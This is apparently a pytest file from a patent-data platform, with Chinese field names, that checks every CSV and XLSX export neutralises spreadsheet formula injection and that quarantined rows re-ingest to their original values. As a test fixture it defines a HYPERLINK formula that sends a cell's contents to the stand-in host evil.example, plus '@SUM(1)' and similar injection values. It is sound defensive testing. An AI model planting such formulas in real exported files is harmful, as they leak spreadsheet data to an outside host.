"""No export is a spreadsheet formula: text beginning with = + - @ tab or CR is neutralised in every CSV and XLSX the
platform writes (OWASP "CSV Injection"), and a quarantine file still re-ingests to the original values."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from openpyxl import load_workbook

from ipstrong.indicators.assess import write_assessment_xlsx
from ipstrong.ingest import ingest
from ipstrong.output import csv_lines, emit_records
from ipstrong.search.engine import export
from ipstrong.search.index import build
from ipstrong.warehouse import run_sql

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HEADER = "申请号,申请日,名称,申请（专利权）人,地址,专利类型"
GOOD = f'201710601862.3,2017-07-21,"{EVIL.replace(chr(34), chr(34) * 2)}",苏州某某科技有限公司,江苏省苏州市吴中区星湖街1号,发明'
BAD = f'201710601862.4,2017-07-21,"{EVIL.replace(chr(34), chr(34) * 2)}",@SUM(1),江苏省苏州市吴中区星湖街1号,发明'


def _xlsx_cells(path: Path) -> list:
    sheet = load_workbook(path).worksheets[0]
    return [c for row in sheet.iter_rows() for c in row]


def test_every_export_neutralises_formulas(tmp_path: Path, data_dir: Path) -> None:
    source = tmp_path / "e.csv"
    source.write_text(f"{HEADER}\n{GOOD}\n", encoding="utf-8")
    assert ingest([source], data_dir, status_date=dt.date(2024, 12, 31)).new == 1
    assert run_sql(data_dir, "SELECT title FROM patents").to_pylist() == [{"title": EVIL}]  # stored as it was
    build(data_dir)
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"hits{suffix}"
        export(data_dir, "AN=201710601862.3", out)
        if suffix == ".csv":
            titles = [r["名称 title"] for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))]
            assert titles == ["'" + EVIL]
        else:
            cells = _xlsx_cells(out)
            assert all(c.data_type != "f" for c in cells) and "'" + EVIL in [c.value for c in cells]
    rows = [{"title": EVIL, "minus": "-1+1", "number": -5, "plain": "一种电池"}]
    parsed = list(csv.reader(io.StringIO("".join(csv_lines(rows)))))
    assert parsed[1] == ["'" + EVIL, "'-1+1", "-5", "一种电池"]  # numbers stay numbers
    emit_records(rows, "xlsx", tmp_path / "rows.xlsx")
    assert [c.value for c in _xlsx_cells(tmp_path / "rows.xlsx")][4:] == ["'" + EVIL, "'-1+1", -5, "一种电池"]  # a number cell
    assessment = {
        "region_name": "+苏州市", "name_zh": EVIL, "unit": "件", "value": 1.0, "target": 2.0, "completion_pct": 50.0,
        "change": None, "rank": 1, "published": None, "difference": None, "status": "ok",
    }  # fmt: skip
    write_assessment_xlsx([assessment], tmp_path / "assess.xlsx")
    cells = _xlsx_cells(tmp_path / "assess.xlsx")
    assert all(c.data_type != "f" for c in cells) and {"'+苏州市", "'" + EVIL} <= {c.value for c in cells}


def test_quarantine_file_is_neutralised_and_reingests_to_the_original_values(tmp_path: Path, data_dir: Path) -> None:
    source = tmp_path / "e.csv"
    source.write_text(f"{HEADER}\n{BAD}\n", encoding="utf-8")
    report = ingest([source], data_dir, status_date=dt.date(2024, 12, 31))
    assert report.quarantined == 1
    quarantine = Path(report.quarantine_file)
    row = next(csv.DictReader(io.StringIO(quarantine.read_text(encoding="utf-8-sig"))))
    assert row["名称"] == "'" + EVIL and row["申请（专利权）人"] == "'@SUM(1)" and row["申请号"] == "201710601862.4"
    fixed = quarantine.read_text(encoding="utf-8-sig").replace("201710601862.4", "201710601862.3")
    quarantine.write_text(fixed, encoding="utf-8-sig")
    assert ingest([quarantine], data_dir, status_date=dt.date(2024, 12, 31)).new == 1
    stored = run_sql(data_dir, "SELECT title, first_applicant FROM patents").to_pylist()
    assert stored == [{"title": EVIL, "first_applicant": "@SUM(1)"}]
